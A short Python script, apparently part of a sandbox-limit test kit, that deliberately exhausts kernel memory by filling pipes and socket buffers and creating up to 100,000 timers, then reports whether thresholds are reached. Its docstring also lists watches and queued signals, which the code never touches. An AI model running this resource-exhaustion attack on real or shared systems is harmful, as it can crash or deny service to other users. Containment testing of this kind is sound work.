"""Fills kernel memory: pipes of 1 MB, socket buffers, timers, watches, queued signals."""

import ctypes
import fcntl
import os
import socket

from attack_kit import MB, attempt, libc, reached, syscall, tell

held: list[object] = []
total = 0
for _ in range(2000):
    pipe = attempt(os.pipe)
    if not isinstance(pipe, tuple):
        break
    attempt(fcntl.fcntl, pipe[1], fcntl.F_SETPIPE_SZ, MB)
    os.set_blocking(pipe[1], False)
    while isinstance(size := attempt(os.write, pipe[1], b"x" * 65536), int):
        total += size
for fd in range(10, 1024):
    attempt(os.close, fd)
for _ in range(2000):
    pair = attempt(socket.socketpair)
    if not isinstance(pair, tuple):
        break
    pair[0].setblocking(False)
    attempt(pair[0].setsockopt, socket.SOL_SOCKET, socket.SO_SNDBUF, 100 * MB)
    while isinstance(size := attempt(pair[0].send, b"x" * 65536), int):
        total += size
    held.append(pair)
tell(f"{total // MB} MB in pipes and sockets")
if total > 1024 * MB:
    reached(f"{total // MB} MB in pipes and sockets")
timer = ctypes.c_void_p()
timers = 0
while timers < 100_000 and libc.timer_create(1, None, ctypes.byref(timer)) == 0:
    timers += 1
if timers >= 100_000 or syscall("timer_create", 9, 0, ctypes.byref(timer)) >= 0:
    reached(f"{timers} timers")
